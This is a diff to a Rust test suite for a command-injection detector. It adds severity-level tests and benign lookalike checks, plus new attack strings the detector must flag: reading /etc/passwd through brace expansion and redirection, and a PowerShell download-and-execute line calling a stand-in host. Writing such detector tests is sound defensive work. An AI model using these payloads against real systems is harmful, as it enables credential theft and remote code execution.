@@ -163,7 +163,39 @@ fn traversal_benign_lookalikes() {
 }
 
 fn is_cmdi(s: &str) -> bool {
-    cmdi::detect(&norm(s)).is_some()
+    cmdi::detect(&norm(s)).is_some_and(|h| h.severity == Severity::Critical)
+}
+
+fn cmdi_rule(s: &str) -> Option<(&'static str, Severity)> {
+    cmdi::detect(&norm(s)).map(|h| (h.rule, h.severity))
+}
+
+#[test]
+fn cmdi_weaker_shapes_are_warnings() {
+    let w = |r| Some((r, Severity::Warning));
+    assert_eq!(
+        cmdi_rule(";perf --version"),
+        w("cmdi.option-after-separator")
+    );
+    assert_eq!(cmdi_rule("ls -la /"), w("cmdi.command-line"));
+    assert_eq!(cmdi_rule("cat</etc/passwd"), w("cmdi.command-line"));
+    for b in [
+        "python developer",
+        "curl is great",
+        "Yes; no -- maybe",
+        "A & b -c",
+        "cat",
+    ] {
+        assert_eq!(cmdi_rule(b), None, "{b}");
+    }
+}
+
+#[test]
+fn cmdi_offset_points_into_the_value() {
+    let v = norm("abc;'i'd");
+    let hit = cmdi::detect(&v).expect("hit");
+    // `'i'd` reads as `id`; the offset is that of the `i` in the value.
+    assert_eq!((hit.offset, v[hit.offset]), (5, b'i'));
 }
 
 #[test]
@@ -183,6 +215,9 @@ fn cmdi_attacks() {
         "|| ping -c 10 127.0.0.1",
         "& powershell -enc AAAA",
         "; sleep 5",
+        "{cat,/etc/passwd}",
+        ";cat</etc/passwd",
+        "a|iex (new-object net.webclient).downloadstring('http://x')",
     ] {
         assert!(is_cmdi(a), "missed: {a}");
     }
